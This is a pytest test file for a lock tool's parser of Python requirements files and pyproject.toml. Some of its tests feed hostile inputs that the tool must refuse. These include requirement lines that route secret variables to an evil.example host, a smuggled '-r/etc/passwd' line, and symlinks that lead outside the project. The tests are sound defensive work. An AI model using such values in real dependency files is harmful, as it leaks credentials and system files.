from __future__ import annotations

import json
import os
from pathlib import Path

import pytest
import tomlkit

from reprolock.environment.python.declared.pyproject_file import workspace_of
from reprolock.environment.python.declared.requirement_line import IndexOption, without_hashes
from reprolock.environment.python.declared.requirements import Declaration, read_declared, with_other_hashes
from reprolock.environment.python.indexes import read_indexes
from reprolock.errors import UsageError
from reprolock.files.trusted import trust
from reprolock.model.spec import EnvironmentSpec

GIT = 'a lock takes only what has a SHA-256; name an archive of one commit, as "NAME @ https://HOST/OWNER/REPOSITORY/archive/COMMIT.tar.gz"'


def write(root: Path, files: dict[str, str]) -> None:
    for name, text in files.items():
        (root / name).parent.mkdir(parents=True, exist_ok=True)
        (root / name).write_text(text)


def test_packages_are_normalised_and_keep_their_order(tmp_path: Path) -> None:
    spec = EnvironmentSpec(packages=("requests[socks] >= 2", "click;python_version<'4'", "requests[socks]>=2"))
    assert read_declared(spec, tmp_path) == Declaration(("requests[socks]>=2", 'click; python_version < "4"'), {})


def test_a_requirements_file_with_what_it_names(tmp_path: Path) -> None:
    write(
        tmp_path,
        {
            "requirements.in": "# ours\nclick \\\n  >=8  # the command line\n-r more/other.in\n--constraint=bounds.txt\n",
            "more/other.in": "attrs\n-r third.in\n",
            "more/third.in": "six\n",
            "bounds.txt": "numpy<2\n",
        },
    )
    declaration = read_declared(EnvironmentSpec(requirements="requirements.in"), tmp_path)
    assert declaration.lines == ("click>=8", "attrs", "six", "-c numpy<2")
    assert declaration.requirements == ("click>=8", "attrs", "six")
    assert declaration.of_kind("-c") == ("numpy<2",)


def test_the_hashes_of_a_requirements_file_are_declared_by_a_digest_over_them(tmp_path: Path) -> None:
    def lines(*hashes: str) -> tuple[str, ...]:
        given = "".join(f" \\\n    --hash=sha256:{value}" for value in hashes)
        write(tmp_path, {"requirements.txt": f"six==1.17.0{given}\nattrs\n"})
        found = read_declared(EnvironmentSpec(requirements="requirements.txt"), tmp_path)
        assert found.hashes == ({"six": frozenset(hashes)} if hashes else {})
        assert found.requirements == ("six==1.17.0", "attrs")
        return found.lines

    assert lines() == ("six==1.17.0", "attrs")
    two = lines("aa", "bb")
    assert two == lines("bb", "aa") == ("six==1.17.0 --hashes=66df0b139770d007", "attrs")
    assert with_other_hashes(two, lines("aa")) == with_other_hashes(two, lines()) == {"six"}
    assert without_hashes(two) == lines()


def test_a_pyproject_with_the_extras_that_are_named(tmp_path: Path) -> None:
    write(
        tmp_path,
        {
            "pyproject.toml": '[project]\nname = "My_Project"\ndependencies = ["click"]\n[project.optional-dependencies]\n'
            'train = ["six"]\nall = ["my-project[train]", "attrs"]\nother = ["pandas"]\n'
        },
    )
    assert read_declared(EnvironmentSpec(pyproject="."), tmp_path).lines == ("click",)
    assert read_declared(EnvironmentSpec(pyproject=".[all]"), tmp_path).lines == ("click", "attrs", "six")


@pytest.mark.parametrize(
    ("requirement", "sentence"),
    [
        (
            "click=>8",
            '"click=>8" is not a requirement: expected semicolon (after name with no version specifier) or end',
        ),
        ("six=1.16", '"six=1.16" is not a requirement; pip and uv write "six==1.16"'),
        ("six=1.16=py311_0", '"six=1.16=py311_0" is not a requirement; pip and uv write "six==1.16"'),
        (
            "x @ file:///croot/x_1682520/work",
            "x is the folder that conda built it in; `pip list --format=freeze` says which version that is",
        ),
        ("git+https://example.com/x.git", f'"git+https://example.com/x.git" is a repository, and {GIT}'),
        ("x @ git+https://example.com/x.git@main", f"x comes from a repository, and {GIT}"),
        (
            "./wheels/x.whl",
            '"./wheels/x.whl" is a path on this machine, which no other machine has; '
            "build a wheel, publish it, and name it by version",
        ),
        (
            "./wheels/my_lib-1.0-py3-none-any.whl",
            '"./wheels/my_lib-1.0-py3-none-any.whl" is the path of a wheel; write "my-lib==1.0", and name its folder as '
            '"--find-links wheels" in a requirements file, or as find-links = ["wheels"] in uv.toml',
        ),
        (
            "my-lib @ file:///srv/w/my_lib-1.0-py3-none-any.whl",
            '"my-lib @ file:///srv/w/my_lib-1.0-py3-none-any.whl" is the path of a wheel; write "my-lib==1.0", and name its '
            'folder as "--find-links /srv/w" in a requirements file, or as find-links = ["/srv/w"] in uv.toml',
        ),
        (
            "x @ file:///tmp/x",
            "x is a path on this machine, which no other machine has; publish it and name it by version",
        ),
        (
            "https://example.com/x.whl",
            '"https://example.com/x.whl" names no package; write "NAME @ https://example.com/x.whl"',
        ),
        (
            "x @ https://me:pass@example.com/x.whl",
            "an address must not contain a user name or password; credentials come from the environment",
        ),
    ],
)
def test_what_cannot_be_locked_is_refused_with_its_line(tmp_path: Path, requirement: str, sentence: str) -> None:
    write(
        tmp_path,
        {
            "repro.toml": f"[environment]\npackages = [\n  'six',\n  '{requirement}',\n]\n",
            "r.in": f"six\n{requirement}\n",
        },
    )
    with pytest.raises(UsageError) as caught:
        read_declared(EnvironmentSpec(packages=("six", requirement)), tmp_path)
    assert str(caught.value) == f"repro.toml:4: environment.packages[1]: {sentence}"
    assert caught.value.hint == 'write it as pip would take it from an index, such as "pandas>=2,<3"'
    assert caught.value.exit_code == 2
    with pytest.raises(UsageError) as caught:
        read_declared(EnvironmentSpec(requirements="r.in"), tmp_path)
    assert str(caught.value) == f"r.in:2: {sentence}"


def test_every_faulty_requirement_is_named_at_once(tmp_path: Path) -> None:
    write(tmp_path, {"r.in": "click=>8\nsix\n./x\n"})
    with pytest.raises(UsageError) as caught:
        read_declared(EnvironmentSpec(requirements="r.in"), tmp_path)
    assert caught.value.message == "2 requirements cannot be locked"
    assert [line.split(": ")[0] for line in caught.value.problems] == ["r.in:1", "r.in:3"]


@pytest.mark.parametrize(
    ("files", "spec", "message", "hint"),
    [
        (
            {"r.in": "-e .\n"},
            {"requirements": "r.in"},
            'r.in:1: -e . is this project, whose code is named in run.code and whose dependencies pyproject = "." declares in place of requirements',
            "remove the line from r.in, and write there what the project depends on",
        ),
        (
            {"r.in": "--no-binary :all:\n"},
            {"requirements": "r.in"},
            "r.in:1: --no-binary is not understood here; -r, -c, --hash and options that name an index are",
            "remove the line from r.in",
        ),
        (
            {"r.in": "-r s.in\n", "s.in": "-r r.in\n"},
            {"requirements": "r.in"},
            "r.in includes itself by -r or -c",
            "remove one of these lines",
        ),
        (
            {"r.in": "-r s.in\n"},
            {"requirements": "r.in"},
            "no requirements file s.in",
            "check environment.requirements in repro.toml, and -r and -c in the file",
        ),
        (
            {"r.in": "six --hash=md5:aa\n"},
            {"requirements": "r.in"},
            'r.in:1: hash "md5:aa" is not a SHA-256',
            "write the file's SHA-256, as `pip hash FILE` and `uv pip compile --generate-hashes` give it",
        ),
        (
            {},
            {"pyproject": "lib"},
            'no pyproject.toml in "lib"',
            'name the folder that contains it in environment.pyproject, such as "."',
        ),
        (
            {"pyproject.toml": '[project]\nname = "x"\n[project.optional-dependencies]\ntrain = []\n'},
            {"pyproject": ".[tests]"},
            'pyproject.toml has no extra "tests"',
            "it has train",
        ),
        (
            {"pyproject.toml": '[project]\nname = "x"\ndynamic = ["dependencies"]\n'},
            {"pyproject": "."},
            "pyproject.toml: project.dependencies is dynamic, and a lock needs it written down",
            "write the dependencies into pyproject.toml, or name a requirements file",
        ),
        (
            {"pyproject.toml": '[project]\nname = "x"\nrequires-python = "^3.11"\n'},
            {"pyproject": "."},
            'pyproject.toml: project.requires-python: "^3.11" is not a set of versions',
            'write it as in ">=3.11,<3.14"',
        ),
        (
            {"lib/pyproject.toml": '[project]\nname = "x"\n'},
            {"pyproject": "lib/pyproject.toml"},
            'environment.pyproject names the file "lib/pyproject.toml"; it must name the folder that contains it',
            'write pyproject = "lib"',
        ),
        (
            {"setup.cfg": "[options]\ninstall_requires = six\n"},
            {"pyproject": "."},
            'no pyproject.toml in ".": its dependencies are in setup.cfg (install_requires), which only running it would show',
            'write them into [project] dependencies, or into a requirements file and declare requirements = "requirements.txt"',
        ),
        (
            {"pyproject.toml": '[project]\nname = "x"\n[tool.poetry.group.train.dependencies]\nsix = "*"\n'},
            {"pyproject": ".", "groups": ("train",)},
            'pyproject.toml has no dependency group "train" in [dependency-groups]: it is in [tool.poetry.group.train.dependencies], which is not the standard table',
            'write it as `train = ["…"]` below [dependency-groups], which Poetry 2, PDM and Hatch read, too',
        ),
        (
            {"pyproject.toml": '[dependency-groups]\na = [{ include-group = "b" }]\nb = [{ include-group = "a" }]\n'},
            {"pyproject": ".", "groups": ("a",)},
            "pyproject.toml: dependency-groups.a: cyclic dependency group include while resolving a: a -> b, b -> a",
            "check the group",
        ),
        (
            {"requirements/base.txt": "six\n"},
            {"requirements": "requirements"},
            "requirements is a folder, not a requirements file",
            "name a file in it",
        ),
        (
            {
                "pyproject.toml": '[project]\nname = "x"\ndependencies = ["My.Lib"]\n[tool.uv.sources]\nmy-lib = { path = "../lib" }\n'
            },
            {"pyproject": "."},
            "pyproject.toml: project.dependencies[0]: [tool.uv.sources] gives My.Lib a source of its own (path), which a lock cannot repeat",
            "remove it here, declare what it depends on, and add it to run.code, with its folder in PYTHONPATH of run.env",
        ),
    ],
)
def test_a_faulty_file_says_what_and_where(
    tmp_path: Path, files: dict[str, str], spec: dict[str, str], message: str, hint: str
) -> None:
    write(tmp_path, files)
    with pytest.raises(UsageError) as caught:
        read_declared(EnvironmentSpec(**spec), tmp_path)
    assert (str(caught.value), caught.value.hint) == (message, hint)


@pytest.mark.parametrize(
    ("name", "kind"),
    [
        ("environment.yml", "conda's"),
        ("conda/env.yaml", "conda's"),
        ("Pipfile", "Pipenv's"),
        ("poetry.lock", "Poetry's lock"),
        ("uv.lock", "uv's lock"),
        ("pylock.dev.toml", "a lock of its own (PEP 751)"),
        ("pyproject.toml", "a project's own settings"),
    ],
)
def test_a_file_of_another_tool_is_named_as_such(tmp_path: Path, name: str, kind: str) -> None:
    write(tmp_path, {name: "[packages]\nsix = 1\n"})
    with pytest.raises(UsageError) as caught:
        read_declared(EnvironmentSpec(requirements=name), tmp_path)
    assert str(caught.value) == f"{name} is not a requirements file: it is {kind}"
    assert caught.value.hint is not None and "remove the line" not in caught.value.hint


_PLACES = [
    *("project", "project.name", "project.dynamic", "project.dependencies", "project.requires-python"),
    *("project.optional-dependencies", "project.optional-dependencies.a", "dependency-groups", "dependency-groups.g"),
    *("tool", "tool.uv", "tool.uv.index", "tool.uv.index-url", "tool.uv.extra-index-url", "tool.uv.find-links"),
    *("tool.uv.pip", "tool.uv.pip.index-url", "tool.uv.sources", "tool.uv.sources.six", "tool.uv.dev-dependencies"),
    *("tool.uv.constraint-dependencies", "tool.uv.override-dependencies", "tool.uv.build-constraint-dependencies"),
]


@pytest.mark.parametrize("place", _PLACES)
@pytest.mark.parametrize("value", [3, "x", True, [3], [[]], {"z": 3}, [{"url": 3}], {"six": "*"}])
def test_a_value_of_any_type_is_taken_or_refused(tmp_path: Path, place: str, value: object) -> None:
    tables: dict = {"project": {"name": "p", "dependencies": ["six"], "optional-dependencies": {"a": ["idna"]}}}
    tables |= {"dependency-groups": {"g": ["attrs"]}, "tool": {"uv": {"pip": {}, "sources": {}}}}
    *above, last = place.split(".")
    table = tables
    for name in above:
        table = table[name]
    table[last] = value
    (tmp_path / "pyproject.toml").write_text(tomlkit.dumps(tables))
    for read in (
        lambda: read_declared(EnvironmentSpec(pyproject=".[a]", groups=("g",)), tmp_path),
        lambda: read_indexes({"UV_INDEX_X_PASSWORD": "y"}, tmp_path),
    ):
        try:
            read()
        except UsageError as error:
            assert str(error).startswith("pyproject.toml")


def test_dependencies_that_are_a_table_or_text_are_not_read_letter_by_letter(tmp_path: Path) -> None:
    for given, shown in (("'six'", '"six"'), ("{ six = '*' }", "a table")):
        write(tmp_path, {"pyproject.toml": f"[project]\nname = 'p'\ndependencies = {given}\n"})
        with pytest.raises(UsageError) as caught:
            read_declared(EnvironmentSpec(pyproject="."), tmp_path)
        assert str(caught.value) == f"pyproject.toml:3: project.dependencies: write a list, not {shown}"


@pytest.mark.parametrize(
    "line",
    [
        "-c https://me:hunter2@example.com/c.txt",
        "-r https://hunter2@example.com/c.txt",
        "-e git+https://hunter2@example.com/x.git#egg=x",
        "git+https://me:hunter2@example.com/x.git",
        "six=https://me:hunter2@example.com/x",
        "six @ https://me:hunter2@example.com/x.whl ; x",
        "six${UNSET} @ https://me:hunter2@example.com/x.whl",
        "--mirror https://me:hunter2@example.com",
    ],
)
def test_no_refusal_repeats_a_password(tmp_path: Path, line: str) -> None:
    write(tmp_path, {"r.in": f"{line}\n"})
    with pytest.raises(UsageError) as caught:
        read_declared(EnvironmentSpec(requirements="r.in"), tmp_path, {})
    assert "hunter2" not in f"{caught.value} {caught.value.problems} {caught.value.hint}"


def test_all_that_a_lock_cannot_repeat_is_said_at_once(tmp_path: Path) -> None:
    write(
        tmp_path, {"r.in": "--pre\n-e .\n-e git+https://example.com/x\nsix==${SIX}\n-r more.in\n", "more.in": "a b\n"}
    )
    with pytest.raises(UsageError) as caught:
        read_declared(EnvironmentSpec(requirements="r.in"), tmp_path, {})
    assert caught.value.message == "5 requirements cannot be locked"
    assert [line.split(": ")[0] for line in caught.value.problems] == [
        "r.in:1",
        "r.in:2",
        "r.in:3",
        "r.in:4",
        "more.in:1",
    ]
    assert caught.value.problems[2] == f"r.in:3: -e names a repository, and {GIT}"
    assert caught.value.problems[3] == 'r.in:4: "six==${SIX}" needs the variable SIX, which is not set'
    assert caught.value.hint == (
        'change or remove these lines; write a package as pip would take it from an index, such as "pandas>=2,<3"'
    )


# --- as pip reads a requirements file ---------------------------------------------------------------


def lines_of(root: Path, data: bytes | str, **variables: str) -> tuple[str, ...]:
    (root / "r.in").write_bytes(data if isinstance(data, bytes) else data.encode())
    return read_declared(EnvironmentSpec(requirements="r.in"), root, variables).lines


@pytest.mark.parametrize(
    "data",
    [
        "six\nattrs\n".encode("utf-8-sig"),
        "six\nattrs\n".encode("utf-16"),
        b"\xfe\xff" + "six\nattrs\n".encode("utf-16-be"),
        "six\nattrs\n".encode("utf-32"),
        "# -*- coding: latin-1 -*-\nsix # für uns\nattrs".encode("latin-1"),
        b"six\r\nattrs\r\n",
        b"s\\\nix\nattrs   # the last line is continued \\\n",
        b"six \\\n# a comment ends it\nattrs",
        b"\n\n   # nothing\nsix#1\n".replace(b"#1", b" #1") + b"attrs\\",
    ],
)
def test_encodings_continued_lines_and_comments(tmp_path: Path, data: bytes) -> None:
    assert lines_of(tmp_path, data) == ("six", "attrs")


@pytest.mark.parametrize(
    "line",
    [
        "-rbase.txt",
        "-r base.txt",
        "-r  'base.txt'",
        '--requirement="base.txt"',
        "--requirement base.txt",
        "--requirement=base.txt",
    ],
)
def test_nested_files_however_they_are_named(tmp_path: Path, line: str) -> None:
    write(tmp_path, {"base.txt": "six"})
    assert lines_of(tmp_path, line) == ("six",)
    assert lines_of(tmp_path, line.replace("requirement", "constraint").replace("-r", "-c")) == ("-c six",)


def test_a_nested_file_with_blanks_in_its_name_below_a_constraint(tmp_path: Path) -> None:
    write(tmp_path, {"my files/base one.txt": "-r two.txt\n", "my files/two.txt": "six<2"})
    assert lines_of(tmp_path, '-c "my files/base one.txt"\n') == ("-c six<2",)


def test_variables_are_those_of_the_environment(tmp_path: Path) -> None:
    assert lines_of(tmp_path, "six==${SIX}\nattrs\n", SIX="1.17.0") == ("six==1.17.0", "attrs")
    with pytest.raises(UsageError) as caught:
        lines_of(tmp_path, "six @ ${MINE}\n", MINE="https://me:secret@example.com/six.whl")
    assert str(caught.value) == (
        "r.in:1: an address must not contain a user name or password; credentials come from the environment"
    )


@pytest.mark.parametrize(
    "line",
    [
        *("./${CORP_PASSWORD}", "${CORP_PASSWORD}==1", "-r ${CORP_PASSWORD}", "six; extra == '${CORP_PASSWORD}'"),
        *("six --hash=sha256:${CORP_PASSWORD}", "-f //evil.example/${CORP_PASSWORD}", "git+ssh:x/${CORP_PASSWORD}"),
    ],
)
def test_a_variable_that_holds_a_secret_stands_in_no_requirement(tmp_path: Path, line: str) -> None:
    with pytest.raises(UsageError) as caught:
        lines_of(tmp_path, line, CORP_PASSWORD="hunter2")
    assert str(caught.value) == (
        "r.in:1: CORP_PASSWORD holds a secret, which would be shown and asked for at the package index"
    )
    assert caught.value.hint == "credentials go into the address of an index, or into UV_INDEX_<NAME>_PASSWORD"


@pytest.mark.parametrize(
    "line",
    [
        "six @ https:/evil.example/${USER_DATA}/six.whl",
        "six @ HTTPS:evil.example/${USER_DATA}/six.whl",
        "six @ https:${SLASHES}evil.example/${USER_DATA}/six.whl",
        "--index-url https:/${HOME_FOLDER}.evil.example/${USER_DATA}",
        "--index-url ${HOST}\\@evil.example/${USER_DATA}",
        "--index-url ${HOST}.evil.example/${USER_DATA}",
    ],
)
def test_an_address_that_only_variables_make_one(tmp_path: Path, line: str) -> None:
    """uv reads `https:/host` as `https://host`, and a variable's value may be what completes an address of the file's."""
    given = {"USER_DATA": "mine", "SLASHES": "//", "HOME_FOLDER": "/root", "HOST": "https://mine.example"}
    with pytest.raises(
        UsageError, match=r"r\.in:1: the value of .*USER_DATA would be sent to .*, which only this file names"
    ):
        lines_of(tmp_path, line, **given)


@pytest.mark.parametrize(
    "text",
    ["six @ https://evil.example/${HOME}/six.whl", "six @ https://evil.example/six.whl\n-r/etc/passwd", "six\\"],
)
def test_a_requirement_that_is_more_than_one_to_uv(tmp_path: Path, text: str) -> None:
    """uv puts in the values of variables, of whatever name, and sends them to the address that they stand in."""
    (tmp_path / "pyproject.toml").write_text(tomlkit.dumps({"project": {"name": "x", "dependencies": [text]}}))
    for spec in (EnvironmentSpec(packages=(text,)), EnvironmentSpec(pyproject=".")):
        with pytest.raises(UsageError) as caught:
            read_declared(spec, tmp_path)
        assert str(caught.value).endswith(
            f': "{text}" has a variable, a line end or a backslash in it, which uv would read as more than a requirement'
        )


def test_a_file_outside_of_the_project_is_not_read(tmp_path: Path) -> None:
    project, private = tmp_path / "project", tmp_path / "private"
    write(tmp_path, {"private": "hunter2\n", "project/r.in": "six\n", "project/below/s.in": "six\n"})
    (project / "link").symlink_to(private)
    (project / "below" / "link").symlink_to("../r.in")
    for line, shown in ((f"-r {private}", "private"), ("-c ../private", "../private"), ("-r link", "link")):
        write(project, {"r.in": f"{line}\n"})
        with pytest.raises(UsageError) as caught:
            read_declared(EnvironmentSpec(requirements="r.in"), project)
        assert str(caught.value) == f"{shown} leads out of the project, to {private}"
    with pytest.raises(UsageError) as caught:
        read_declared(EnvironmentSpec(requirements="link"), project)
    assert str(caught.value) == f"link leads out of the project, to {private}"
    write(project, {"r.in": "six\n", "below/s.in": "-r ../r.in\n"})
    with pytest.raises(UsageError):
        read_declared(EnvironmentSpec(requirements="s.in"), project / "below")
    (project / ".git").mkdir()  # a project in a folder of a repository
    assert read_declared(EnvironmentSpec(requirements="s.in"), project / "below").lines == ("six",)
    assert read_declared(EnvironmentSpec(requirements="link"), project / "below").lines == ("six",)


def test_a_name_that_no_file_has(tmp_path: Path) -> None:
    write(tmp_path, {"r.in": "-r a\0b\n"})
    with pytest.raises(UsageError) as caught:
        read_declared(EnvironmentSpec(requirements="r.in"), tmp_path)
    assert str(caught.value) == "a\0b is not the name of a file"


def test_a_pipe_is_no_requirements_file(tmp_path: Path) -> None:
    os.mkfifo(tmp_path / "r.in")
    with pytest.raises(UsageError) as caught:
        read_declared(EnvironmentSpec(requirements="r.in"), tmp_path)
    assert str(caught.value) == "r.in cannot be read: it is a pipe or a device, and no file"


def test_options_that_name_an_index_are_kept_apart(tmp_path: Path) -> None:
    text = "-i https://a.example/simple\n--extra-index-url=https://${KEY}@b.example/simple\n-f wheels\n--trusted-host c.example\n"
    write(tmp_path, {"r.in": f"{text}--require-hashes\n--no-index\nsix\n"})
    given = {"KEY": "me:secret", "REPROLOCK_CONFIG_DIR": str(tmp_path / "confirmed")}
    trust("https://b.example", given)
    found = read_declared(EnvironmentSpec(requirements="r.in"), tmp_path, given)
    assert found.lines == ("six",)
    assert found.index_options == (
        IndexOption("r.in:1", "--index-url", "https://a.example/simple"),
        IndexOption("r.in:2", "--extra-index-url", "https://me:secret@b.example/simple"),
        IndexOption("r.in:3", "--find-links", str(tmp_path / "wheels")),
        IndexOption("r.in:4", "--trusted-host", "c.example"),
        IndexOption("r.in:6", "--no-index", ""),
    )
    write(tmp_path, {"r.in": "--no-index --find-links 'my wheels' -ihttps://x --trusted-host c.example\nsix\n"})
    assert read_declared(EnvironmentSpec(requirements="r.in"), tmp_path).index_options == (
        IndexOption("r.in:1", "--no-index", ""),
        IndexOption("r.in:1", "--find-links", str(tmp_path / "my wheels")),
        IndexOption("r.in:1", "--index-url", "https://x"),
        IndexOption("r.in:1", "--trusted-host", "c.example"),
    )


@pytest.mark.parametrize(
    ("line", "message"),
    [
        ("-r https://example.com/r.txt", "r.in:1: https://example.com/r.txt may be another file each time it is read, and a lock can only pin files of the project"),
        ("--pre", "r.in:1: --pre is not understood here; -r, -c, --hash and options that name an index are"),
        ("-e libs/a", "r.in:1: -e names a path on this machine, which no other machine has; name code in run.code instead"),
        ("--editable=.[dev]", 'r.in:1: --editable .[dev] is this project, whose code is named in run.code and whose dependencies pyproject = "." declares in place of requirements'),
        ("./[dev]", 'r.in:1: "./[dev]" is this project, whose code is named in run.code and whose dependencies pyproject = "." declares in place of requirements'),
        ("six --config-settings=a=b", "r.in:1: --config-settings is not understood after a requirement; only --hash is"),
    ],
)  # fmt: skip
def test_what_pip_would_do_and_a_lock_cannot_is_refused_by_name(tmp_path: Path, line: str, message: str) -> None:
    with pytest.raises(UsageError) as caught:
        lines_of(tmp_path, line)
    assert str(caught.value) == message


# --- pyproject.toml ---------------------------------------------------------------------------------


def test_groups_and_what_uv_is_told_about_versions(tmp_path: Path) -> None:
    write(
        tmp_path,
        {
            "pyproject.toml": """
            [project]
            name = "p"
            version = "1"
            requires-python = "<4,>=3.11"
            dependencies = ["six"]
            [project.optional-dependencies]
            fast = ["idna"]
            [dependency-groups]
            train = ["attrs", { include-group = "common" }, "p[fast]"]
            common = ["click"]
            other = ["flask"]
            [tool.uv]
            constraint-dependencies = ["six<1.17"]
            override-dependencies = ["click==8.1.7"]
            exclude-dependencies = ["colorama"]
            build-constraint-dependencies = ["setuptools<80"]
            dev-dependencies = ["pyflakes"]
            """
        },
    )
    rest = ("--requires-python <4,>=3.11", "-c six<1.17", "--override click==8.1.7", "--exclude colorama")
    rest += ("--build-constraint setuptools<80",)
    assert read_declared(EnvironmentSpec(pyproject="."), tmp_path).lines == ("six", *rest)
    found = read_declared(EnvironmentSpec(pyproject=".", groups=("train", "dev")), tmp_path)
    assert found.lines == ("six", "attrs", "click", "pyflakes", "idna", *rest)
    assert found.requirements == ("six", "attrs", "click", "pyflakes", "idna")
    with pytest.raises(UsageError) as caught:
        read_declared(EnvironmentSpec(pyproject=".", groups=("tests",)), tmp_path)
    assert str(caught.value) == 'pyproject.toml has no dependency group "tests"'
    assert caught.value.hint == "it has common, dev, other, train"


def test_groups_without_a_project(tmp_path: Path) -> None:
    write(tmp_path, {"pyproject.toml": '[dependency-groups]\ntrain = ["six"]\n'})
    assert read_declared(EnvironmentSpec(pyproject=".", groups=("train",)), tmp_path).lines == ("six",)


def test_a_source_that_is_an_address_is_a_requirement(tmp_path: Path) -> None:
    text = '[project]\nname = "p"\ndependencies = ["six>=1", "torch"]\n[tool.uv.sources]\n'
    text += 'six = { url = "https://example.com/six.whl" }\ntorch = [{ index = "cpu", marker = "sys_platform == \'linux\'" }]\n'
    write(tmp_path, {"pyproject.toml": text})
    assert read_declared(EnvironmentSpec(pyproject="."), tmp_path).lines == (
        "six @ https://example.com/six.whl",
        "torch",
        "--index torch cpu ; sys_platform == 'linux'",
    )


def test_sources_of_one_extra_or_group_count_there_alone(tmp_path: Path) -> None:
    """As uv's guide to PyTorch has them."""
    text = '[project]\nname = "p"\n[project.optional-dependencies]\ncpu = ["torch"]\ncu = ["torch"]\nall = ["p[cpu]"]\n'
    text += '[dependency-groups]\ndev = ["torch"]\n[tool.uv.sources]\n'
    text += 'torch = [{ index = "a", extra = "cpu" }, { index = "b", extra = "cu" }, { git = "https://example.com", group = "dev" }]\n'
    write(tmp_path, {"pyproject.toml": text})
    for asked, index in (("cpu", "a"), ("cu", "b"), ("all", "a")):
        lines = read_declared(EnvironmentSpec(pyproject=f".[{asked}]"), tmp_path).lines
        assert lines == ("torch", f"--index torch {index}")
    with pytest.raises(UsageError) as error:
        read_declared(EnvironmentSpec(pyproject=".", groups=("dev",)), tmp_path)
    assert error.value.message == (
        "pyproject.toml: dependency-groups.dev: [tool.uv.sources] gives torch a source of its own (git), which a lock cannot repeat"
    )


def test_sources_of_a_workspace_count_for_its_members(tmp_path: Path) -> None:
    """A package of an index that has the name of another member was locked in its place."""
    member = '[project]\nname = "app"\ndependencies = ["torch", "shared"]\n[tool.uv.sources]\nown = { index = "x" }\n'
    above = '[tool.uv.workspace]\nmembers = ["packages/*"]\nexclude = ["packages/old"]\n'
    above += '[tool.uv.sources]\nshared = { workspace = true }\ntorch = { index = "cpu" }\n'
    write(
        tmp_path,
        {"pyproject.toml": above, "packages/app/pyproject.toml": member, "packages/old/pyproject.toml": member},
    )
    assert read_declared(EnvironmentSpec(pyproject="."), tmp_path / "packages/old").lines == ("torch", "shared")
    with pytest.raises(UsageError) as error:
        read_declared(EnvironmentSpec(pyproject="packages/app"), tmp_path)
    assert error.value.message == (
        "pyproject.toml: project.dependencies[1]: [tool.uv.sources] gives shared a source of its own (workspace), "
        "which a lock cannot repeat"
    )
    (tmp_path / "packages/app/.git").mkdir()  # a repository of its own
    assert read_declared(EnvironmentSpec(pyproject="packages/app"), tmp_path).lines == ("torch", "shared")


@pytest.mark.parametrize(
    ("members", "is_member"),
    [
        (["./libs/app/"], True),
        (["**"], True),
        (["libs/**/app", "x"], True),
        (["libs"], False),
        (["libs/app/*", "**x", "../*", "/libs/app", "", "[", 1], False),
        ("libs/app", False),
    ],
)
def test_which_folders_a_workspace_has(tmp_path: Path, members: object, is_member: bool) -> None:
    app = tmp_path / "libs" / "app"
    write(tmp_path, {"pyproject.toml": f"[tool.uv.workspace]\nmembers = {json.dumps(members)}\n", "libs/app/a": ""})
    assert workspace_of(app) == (tmp_path if is_member else None)


WRITE = "write them into [project] dependencies"


@pytest.mark.parametrize(
    ("files", "message", "hint"),
    [
        (
            {"pyproject.toml": '[tool.poetry]\nname = "h"\n[tool.poetry.dependencies]\nsix = "^1"\n'},
            "its dependencies are in [tool.poetry.dependencies], which is Poetry's own format",
            "run `poetry export -f requirements.txt -o requirements.txt` (plugin poetry-plugin-export) and declare "
            f'requirements = "requirements.txt", or {WRITE}, which Poetry 2 reads, too',
        ),
        (
            {"pyproject.toml": '[build-system]\nrequires = ["setuptools"]\n', "setup.py": "1/0\n"},
            "its dependencies are in setup.py (install_requires), which only running it would show",
            f'{WRITE}, or into a requirements file and declare requirements = "requirements.txt"',
        ),
        (
            {"pyproject.toml": "[tool.ruff]\n", "setup.cfg": "[options]\n"},
            "its dependencies are in setup.cfg (install_requires), which only running it would show",
            f'{WRITE}, or into a requirements file and declare requirements = "requirements.txt"',
        ),
        (
            {"pyproject.toml": "[tool.black]\n", "requirements.txt": "six\n"},
            "its dependencies seem to be in requirements.txt",
            'declare requirements = "requirements.txt"',
        ),
        (
            {"pyproject.toml": '[build-system]\nrequires = ["setuptools"]\n'},
            "it has only [build-system]",
            f'{WRITE}, or declare packages = ["…"] in repro.toml',
        ),
        ({"pyproject.toml": ""}, "it has no dependencies", f'{WRITE}, or declare packages = ["…"] in repro.toml'),
    ],
)
def test_a_pyproject_without_a_project_says_where_its_dependencies_are(
    tmp_path: Path, files: dict[str, str], message: str, hint: str
) -> None:
    write(tmp_path, files)
    with pytest.raises(UsageError) as caught:
        read_declared(EnvironmentSpec(pyproject="."), tmp_path)
    assert str(caught.value) == f"pyproject.toml has no [project] table: {message}"
    assert (caught.value.hint, caught.value.exit_code) == (hint, 2)


def test_a_project_table_without_what_poetry_keeps_in_its_own(tmp_path: Path) -> None:
    """Poetry 2 takes its own table then: to lock nothing would be another environment."""
    poetry = '[tool.poetry.dependencies]\npython = "^3.11"\n'
    write(tmp_path, {"pyproject.toml": f'[project]\nname = "p"\n{poetry}six = "^1"\n'})
    with pytest.raises(UsageError) as caught:
        read_declared(EnvironmentSpec(pyproject="."), tmp_path)
    assert str(caught.value) == (
        "pyproject.toml: [project] has no dependencies: the dependencies are in [tool.poetry.dependencies], which is "
        "Poetry's own format"
    )
    assert caught.value.hint and caught.value.hint.startswith("run `poetry export -f requirements.txt")
    write(
        tmp_path,
        {"pyproject.toml": f'[project]\nname = "p"\ndependencies = ["six"]\n{poetry}six = {{ source = "x" }}\n'},
    )
    assert read_declared(EnvironmentSpec(pyproject="."), tmp_path).lines == ("six",)


def test_a_project_that_asks_for_itself_asks_for_its_own_extras(tmp_path: Path) -> None:
    """What an index has by the project's name is another package; where an extra is asked for is a part of the question."""
    text = (
        '[project]\nname = "My_Project"\ndependencies = ["my-project[a]", "attrs"]\n[project.optional-dependencies]\n'
    )
    text += 'a = ["my.project[b]; sys_platform == \'win32\'"]\nb = ["six; python_version < \'3.12\'", "click"]\n'
    write(tmp_path, {"pyproject.toml": text})
    assert read_declared(EnvironmentSpec(pyproject="."), tmp_path).lines == (
        "attrs",
        'six; python_version < "3.12" and sys_platform == "win32"',
        'click; sys_platform == "win32"',
    )


def test_extras_that_are_dynamic(tmp_path: Path) -> None:
    write(tmp_path, {"pyproject.toml": '[project]\nname = "p"\ndynamic = ["optional-dependencies"]\n'})
    with pytest.raises(UsageError) as caught:
        read_declared(EnvironmentSpec(pyproject=".[dev]"), tmp_path)
    assert str(caught.value) == (
        "pyproject.toml: project.optional-dependencies is dynamic, and a lock needs it written down"
    )


def test_dynamic_dependencies_that_setuptools_reads_from_a_file(tmp_path: Path) -> None:
